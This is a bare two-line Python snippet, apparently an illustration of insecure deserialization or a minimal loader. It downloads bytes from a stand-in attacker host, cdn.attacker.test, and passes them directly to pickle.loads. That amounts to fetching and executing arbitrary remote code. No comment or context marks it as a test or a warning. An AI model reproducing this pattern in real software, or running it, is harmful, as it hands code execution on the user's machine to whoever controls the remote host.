import pickle, requests
pickle.loads(requests.get("https://cdn.attacker.test/x").content)
